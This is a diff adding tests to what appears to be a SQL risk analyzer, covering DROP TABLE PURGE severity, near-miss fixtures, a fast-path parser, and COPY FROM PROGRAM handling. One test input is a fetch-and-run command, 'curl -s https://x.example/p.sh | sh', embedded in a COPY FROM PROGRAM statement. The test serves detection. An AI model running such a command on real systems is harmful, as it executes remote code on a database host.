@@ -48,6 +48,7 @@ def test_every_sql_rule_has_a_fixture_and_a_near_miss() -> None:
     annotated = {(e.kind, e.rule) for e in expectations(texts)}
     for rule_id in (r for r in load_catalogue().rules if r.startswith("sql.")):
         assert ("ruleid", rule_id) in annotated, f"{rule_id} has no positive fixture"
+        assert ("ok", rule_id) in annotated, f"{rule_id} has no near-miss fixture"
 
 
 def test_every_fixture_rule_exists_in_the_catalogue() -> None:
@@ -67,6 +68,11 @@ def test_operation_fields_come_from_the_catalogue() -> None:
     assert op.message == "DROP TABLE analytics.events removes the table and its data"
     assert op.evidence == "DROP TABLE Analytics.Events CASCADE"
     assert op.verb == "drop" and op.detail("cascade") == "true"
+
+
+def test_purge_raises_the_drop_severity() -> None:
+    (op,) = run("DROP TABLE hr.employees PURGE", dialect="oracle").operations
+    assert (op.rule, op.severity, op.detail("purge")) == ("sql.drop-table", "critical", "true")
 
 
 def test_plain_drop_keeps_the_catalogue_severity() -> None:
@@ -120,6 +126,14 @@ def test_copy_to_program_hands_the_command_to_the_shell_front_end() -> None:
     handed_on = any(op.language == "shell" for op in analysis.operations) or any(
         "shell" in e.message for e in analysis.errors)
     assert handed_on, "the program string was not handed to the shell front end"
+
+
+def test_copy_from_program_hands_the_command_to_the_shell_front_end() -> None:
+    analysis = analyze_any("sql", "COPY users FROM PROGRAM 'curl -s https://x.example/p.sh | sh'",
+                           Location("q.sql"), Options(dialect="postgres"))
+    assert [op for op in analysis.operations if op.language == "sql"] == []
+    assert any(op.language == "shell" for op in analysis.operations) or any(
+        "shell" in e.message for e in analysis.errors)
 
 
 # --- lines, columns, origins --------------------------------------------------------
@@ -353,6 +367,14 @@ def test_statement_after_ctes_is_classified_by_its_own_verb() -> None:
 def test_create_or_replace_of_a_temporary_table_is_scratch() -> None:
     (op,) = run("CREATE OR REPLACE TEMPORARY TABLE work AS SELECT 1", dialect="snowflake").operations
     assert op.rule == "sql.create-or-replace-table" and op.scratch
+
+
+def test_plain_insert_fast_path_matches_the_full_parse() -> None:
+    text = "INSERT INTO a.t (x) VALUES (1), (2);\nINSERT INTO b VALUES ('DROP TABLE c');"
+    fast = analyze(text, Location("q.sql"), Options(prefilter=True))
+    full = analyze(text, Location("q.sql"), Options(prefilter=False))
+    assert sorted(fast.touches) == sorted(full.touches) and fast.operations == full.operations == []
+    assert {(t.target, t.access) for t in fast.touches} == {("a.t", "write"), ("b", "write")}
 
 
 def test_huge_statement_is_classified_from_tokens() -> None:
